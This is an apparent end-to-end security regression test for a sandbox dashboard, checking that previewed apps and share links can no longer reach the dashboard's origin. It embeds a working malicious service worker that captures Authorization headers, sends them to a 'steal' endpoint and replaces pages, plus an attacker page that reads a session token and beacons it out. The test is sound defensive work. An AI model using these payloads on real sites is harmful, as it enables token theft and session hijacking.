// Issue 42, item 4, in Chromium against a real LOCAL session: previewed apps ran on the dashboard's
// origin. An app served sw.js with `Service-Worker-Allowed: /`; once a victim opened a share link,
// the service worker captured the Authorization header of the dashboard's /graphql calls and
// replaced the dashboard's HTML. A preview opened in the dashboard's tab read the token from its
// session storage. Previews and share links now live on the preview site, an origin per sandbox
// port and per link: the worker's scope is that origin, and the dashboard is another origin.
import { type Server, createServer } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { freePort } from '../../contract/ports';
import { CreateShareLinkDocument, SandboxPreviewUrlDocument } from '../generated/graphql';
import type { LiveSession } from '../leases/helpers';
import { waitFor } from '../support/wait';
import { E2E_SETUP_TIMEOUT_MS, type E2e, startE2e, appBesideDaemon, startReadySession } from '../e2e/helpers';
import { launchBrowser } from './helpers';

/** The attacker's app: reports what it can reach, and registers a worker over the widest scope. */
const APP_PAGE = `<!doctype html><html lang="en"><title>app</title><h1>sandbox app</h1><script>
const report = (k, v) => fetch('beacon?' + k + '=' + encodeURIComponent(v));
let token; try { token = sessionStorage.getItem('singulacomp.token'); } catch (e) { token = 'error:' + e.name; }
report('token', String(token));
let parentTitle; try { parentTitle = window.top === window ? 'top' : window.parent.document.title; } catch (e) { parentTitle = 'error:' + e.name; }
report('parent', parentTitle);
if (window.top === window) navigator.serviceWorker.register('sw.js', { scope: '/' })
  .then((r) => report('registered', r.scope), (e) => report('refused', e.name));
</script></html>`;

/** Steals Authorization headers and replaces every page it controls outside the link itself. */
const SERVICE_WORKER = `
const base = self.location.href.replace(/sw\\.js.*$/, '');
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const request = event.request;
  if (request.url.startsWith(base)) return;
  if (request.mode === 'navigate') {
    event.respondWith(new Response('<!doctype html><title>pwned</title><h1>pwned</h1>', { headers: { 'content-type': 'text/html' } }));
    return;
  }
  const auth = request.headers.get('authorization');
  if (auth) event.respondWith(fetch(base + 'steal?auth=' + encodeURIComponent(auth)).then(() => fetch(request)));
});`;

describe('a previewed app cannot reach the dashboard', () => {
  let e: E2e;
  let s: LiveSession;
  let app: Server;
  let appPort: number;
  let browser: Browser;
  const received: string[] = [];
  const beacons = (key: string) =>
    received
      .filter((url) => url.startsWith('/beacon?'))
      .map((url) => new URLSearchParams(url.slice('/beacon?'.length)))
      .filter((q) => q.has(key))
      .map((q) => q.get(key)!);

  beforeAll(async () => {
    appPort = await freePort();
    e = await startE2e(appBesideDaemon(appPort));
    app = createServer((req, res) => {
      received.push(req.url ?? '');
      if (req.url?.startsWith('/sw.js')) {
        res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
        res.end(SERVICE_WORKER);
      } else if (req.url?.startsWith('/beacon') || req.url?.startsWith('/steal')) {
        res.writeHead(204).end();
      } else {
        res.writeHead(200, { 'content-type': 'text/html' }).end(APP_PAGE);
      }
    });
    await new Promise<void>((resolve) => app.listen(appPort, '127.0.0.1', resolve));
    s = await startReadySession(e);
    browser = await launchBrowser();
  }, E2E_SETUP_TIMEOUT_MS);
  afterAll(async () => {
    await browser?.close();
    app?.closeAllConnections();
    await new Promise((resolve) => app?.close(resolve));
    await e?.stop();
  });

  /** Opens the session's dashboard page and waits for its first answered /graphql request. */
  async function openDashboard(page: Page): Promise<void> {
    const answered = page.waitForResponse(
      (r) => r.url() === `${e.t.url}/graphql` && r.request().method() === 'POST' && r.status() === 200,
      { timeout: 30_000 },
    );
    await page.goto(`${e.t.url}/sessions/${s.sessionId}`);
    await answered;
  }

  /** The victim's browser: signed in to the dashboard (the token in its session storage). */
  async function victim(): Promise<BrowserContext> {
    const context = await browser.newContext();
    const dashboard = new URL(e.t.url).origin;
    await context.addInitScript({
      content: `if (location.origin === ${JSON.stringify(dashboard)}) sessionStorage.setItem('singulacomp.token', ${JSON.stringify(e.t.adminToken)})`,
    });
    return context;
  }

  test('a service worker an app registers through a share link never controls the dashboard', async () => {
    const created = await e.t.request(CreateShareLinkDocument, {
      input: {
        sandboxId: s.sandboxId,
        port: appPort,
        mode: 'VIEW_ONLY',
        expiresAt: new Date(Date.now() + 3_600_000).toISOString(),
      },
    });
    const link = created.data!.createShareLink;
    if (link.__typename !== 'CreateShareLinkSuccess') throw new Error(JSON.stringify(link));
    const context = await victim();
    try {
      const shared = await context.newPage();
      await shared.goto(link.url);
      const scope = await waitFor(() => beacons('registered')[0], 60_000, 'the service worker registered');
      // The worker exists, with the widest scope it could get: the share link's own origin.
      expect(new URL(scope).origin).toBe(new URL(shared.url()).origin);
      expect(new URL(scope).origin).not.toBe(new URL(e.t.url).origin);

      const page = await context.newPage();
      // The dashboard loads and asks /graphql with its token: nothing replaced it or stood in between.
      await openDashboard(page);
      expect(await page.title()).not.toBe('pwned');
      expect(await page.evaluate('navigator.serviceWorker.controller')).toBeNull();
      expect(await page.evaluate('navigator.serviceWorker.getRegistrations().then((r) => r.length)')).toBe(0);
      expect(received.filter((url) => url.startsWith('/steal'))).toEqual([]);
    } finally {
      await context.close();
    }
  }, 180_000);

  test('a preview opened in the dashboard’s tab, or framed by it, cannot read or script the dashboard', async () => {
    const context = await victim();
    try {
      const page = await context.newPage();
      await openDashboard(page);
      expect(await page.evaluate('sessionStorage.getItem("singulacomp.token")')).toBe(e.t.adminToken);

      // The same tab navigates to the session's own signed preview URL.
      const signed = (await e.t.request(SandboxPreviewUrlDocument, { id: s.sandboxId, port: appPort })).data!
        .sandbox!.previewUrl.url;
      const before = beacons('token').length;
      await page.goto(signed);
      const token = await waitFor(() => beacons('token')[before], 60_000, 'the preview reported');
      expect(token).toBe('null');
      expect(new URL(page.url()).origin).not.toBe(new URL(e.t.url).origin);

      // Framed by the dashboard as its preview tab frames it (test/web/preview.test.ts drives that
      // tab): the app cannot reach its parent's document.
      await openDashboard(page);
      const framed = (await e.t.request(SandboxPreviewUrlDocument, { id: s.sandboxId, port: appPort })).data!
        .sandbox!.previewUrl.url;
      await page.evaluate(`(() => {
        const frame = document.createElement('iframe');
        frame.src = ${JSON.stringify(framed)};
        frame.setAttribute('sandbox', 'allow-scripts allow-forms allow-popups allow-same-origin');
        document.body.append(frame);
      })()`);
      const parent = await waitFor(
        () => beacons('parent').find((v) => v !== 'top'),
        60_000,
        'the framed preview reported',
      );
      expect(parent).toBe('error:SecurityError');
    } finally {
      await context.close();
    }
  }, 180_000);
});
